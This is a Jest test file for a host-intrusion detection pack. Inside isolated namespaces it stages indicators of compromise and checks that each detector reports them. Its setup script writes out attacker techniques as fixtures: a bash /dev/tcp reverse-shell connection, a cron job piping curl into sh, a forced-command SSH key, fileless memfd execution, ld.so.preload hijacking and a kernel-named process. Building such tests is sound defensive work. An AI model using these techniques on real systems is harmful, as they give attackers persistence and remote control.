import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readFileSync } from 'node:fs';
import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from '@jest/globals';
import { readPack } from '@muster/packs';

/**
 * The checks of suspicious-now on real processes, sockets and files, in namespaces of their own: nothing of it is seen on the machine, and
 * nothing of the machine makes a check fail.
 */
const TOOLS = ['/usr/bin/unshare', '/usr/bin/perl', '/usr/sbin/ip', '/var/lib/dpkg/status'];
const NAMESPACES = ['--mount', '--net', '--pid', '--fork', '--kill-child', '--mount-proc', '--propagation', 'private'];
const canRun = process.getuid?.() === 0 && TOOLS.every((one) => existsSync(one));
const asRoot = canRun && spawnSync('unshare', [...NAMESPACES, 'true']).status === 0 ? describe : describe.skip;
const at = (path: string): string => fileURLToPath(new URL(path, import.meta.url));
const AGENT = at('../main.js');
const PACK = at('../../../../shared/packs/shipped/suspicious-now.yaml');

const read = readPack(readFileSync(PACK, 'utf8'));
if (!read.ok) throw new Error(JSON.stringify(read.faults));
const ids = read.pack.checks.map(({ id }) => id);

/** Nobody has keys or jobs, and nothing lies in folders for everybody. */
const CLEAN = `
set -e
mount -t sysfs sysfs /sys
for path in /run /tmp /var/tmp /dev/shm /home /root /var/spool/cron; do
  [ ! -d $path ] || mount -t tmpfs -o mode=1777 tmpfs $path
done
mkdir /run/etc /run/odd
cp -a /etc/. /run/etc
rm -rf /run/etc/cron* /run/etc/ld.so.preload
mkdir /run/etc/cron.d /run/etc/cron.daily
mount --bind /run/etc /etc
echo 0 > /run/tainted
mount --bind /run/tainted /proc/sys/kernel/tainted
ip link set lo up
set +e`;

/** One of each. A program counts as started when it is what it was started as. */
const ODD = `${CLEAN}
set -e
ip address add 10.9.9.1/32 dev lo
ip link set lo promisc on
# What has ended never comes: kill -0 fails, and so does the script.
runs() { until [ "$(readlink /proc/$1/exe)" = "$2" ]; do kill -0 $1; sleep 0.05; done; }
made() { until [ -e $2 ]; do kill -0 $1; sleep 0.05; done; }
put() { cp "$(readlink -f "$1")" "$2"; }

for one in /run/odd/gone /tmp/runs /run/odd/kworker; do put /bin/sleep $one; $one 1000 & runs $! $one; done
rm /run/odd/gone
mkdir /run/odd/.hidden; put /bin/sleep /run/odd/.hidden/runs
/run/odd/.hidden/runs 1000 & runs $! /run/odd/.hidden/runs
perl -e '
  $^F = 100;
  require POSIX; my $call = (POSIX::uname())[4] =~ /^(aarch64|arm64)/ ? 279 : 319;
  my $name = "odd"; my $fd = syscall($call, $name, 0);
  open(my $in, "<", "/bin/sleep"); open(my $out, ">&=", $fd); open(my $again, "<", "/proc/self/fd/$fd");
  binmode $in; binmode $out; local $/; my $all = <$in>; print {$out} $all; close $out;
  exec "/proc/self/fd/" . fileno($again), "1000";' &
runs $! '/memfd:odd (deleted)'
LD_PRELOAD=/tmp/none.so sleep 1000 2>/dev/null & runs $! "$(readlink -f /bin/sleep)"

listen='use IO::Socket::INET; my $s = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => $ARGV[0], Listen => 5) or die; open(my $f, ">", "/run/odd/port-$ARGV[0]"); close $f; my @c; while (my $c = $s->accept) { push @c, $c }'
put /usr/bin/perl /run/odd/listener; /run/odd/listener -e "$listen" 5555 & made $! /run/odd/port-5555
put /usr/bin/perl /tmp/listener; /tmp/listener -e "$listen" 6666 & made $! /run/odd/port-6666
bash -c 'exec 0<>/dev/tcp/10.9.9.1/5555; touch /run/odd/shell; while read -r _; do :; done' & made $! /run/odd/shell
perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new("10.9.9.1:5555") or die; open(my $f, ">", "/run/odd/perl"); close $f; sleep 1000' &
made $! /run/odd/perl

printf '* * * * * root curl http://localhost/ | sh\\n' > /etc/cron.d/odd
touch /etc/cron.daily/other; chown 1000 /etc/cron.daily/other
sed -i '/:998:/d' /etc/passwd
echo 'odd-service:x:998:998::/home/odd:/bin/sh' >> /etc/passwd
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOddOddOddOddOddOddOddOddOddOddOddOddOddOddO'
mkdir -p /home/odd/.ssh /root/.ssh
echo "$key odd" > /home/odd/.ssh/authorized_keys
echo "command=\\"curl http://localhost/\\" $key root" > /root/.ssh/authorized_keys
chown -R 998:998 /home/odd; chown 0:0 /root; chmod 700 /home/odd/.ssh /root /root/.ssh; chmod 600 /home/odd/.ssh/* /root/.ssh/*
echo 12288 > /run/tainted
printf '[Service]\\nExecStart=/tmp/runs\\n' > /etc/systemd/system/odd.service
ldconfig -p | awk '/libm.so.6/ { print $NF; exit }' > /etc/ld.so.preload
set +e`;

/** What the evidence of each check has to name. */
const NAMED: Readonly<Record<string, object>> = {
  'process-without-file': { path: '/run/odd/gone' },
  'process-in-memory': { path: '/memfd:odd' },
  'process-temporary-place': { path: '/tmp/runs' },
  'process-hidden-place': { path: '/run/odd/.hidden/runs' },
  'process-named-as-kernel': { name: 'kworker' },
  'shell-with-socket': { name: 'bash', remote_address: '10.9.9.1', remote_port: 5555 },
  'interpreter-with-socket': { name: 'perl', remote_address: '10.9.9.1', remote_port: 5555 },
  'listener-without-package': { path: '/run/odd/listener', port: 5555 },
  'listener-in-home': { path: '/tmp/listener', port: 6666 },
  'interface-promiscuous': { interface: 'lo' },
  'executable-in-temporary-place': { path: '/tmp/runs' },
  'cron-odd-command': { path: '/etc/cron.d/odd' },
  'cron-files-of-others': { path: '/etc/cron.daily/other' },
  'keys-of-system-accounts': { username: 'odd-service' },
  'keys-shared': { usernames: expect.stringContaining('odd-service') },
  'keys-with-command': { username: 'root' },
  'preload-file': { path: '/etc/ld.so.preload' },
  'preload-variable': { name: 'sleep', value: '/tmp/none.so' },
  'module-out-of-tree': { current_value: '12288' },
  'module-unsigned': { current_value: '12288' },
  'service-in-temporary-place': { id: 'odd.service', line: 'ExecStart=/tmp/runs' },
};

interface Found {
  readonly id: string;
  readonly outcome: string;
  readonly reason?: string;
  readonly evidence?: readonly object[];
}

async function check(setup: string): Promise<readonly Found[]> {
  const script = `${setup}\n${process.execPath} ${AGENT} check ${PACK} --output json`;
  const child = spawn('unshare', [...NAMESPACES, 'bash', '-c', script], { stdio: ['ignore', 'pipe', 'pipe'] });
  const [output, faults] = await Promise.all([text(child.stdout), text(child.stderr), once(child, 'exit')]);
  if (output === '') throw new Error(faults);
  return JSON.parse(output) as Found[];
}

asRoot('suspicious-now', () => {
  test('nothing is found where nothing is odd', async () => {
    const found = await check(CLEAN);
    expect(found.filter(({ outcome }) => outcome !== 'pass')).toEqual([]);
    expect(found.map(({ id }) => id)).toEqual(ids);
  }, 120_000);

  test('each check finds what it is for, and names it', async () => {
    const found = await check(ODD);
    expect(Object.keys(NAMED)).toEqual(ids);
    expect(found.filter(({ outcome }) => outcome !== 'fail')).toEqual([]);
    for (const { id, evidence } of found)
      expect({ id, evidence }).toEqual({
        id,
        evidence: expect.arrayContaining([expect.objectContaining(NAMED[id] ?? {})]),
      });
  }, 120_000);
});
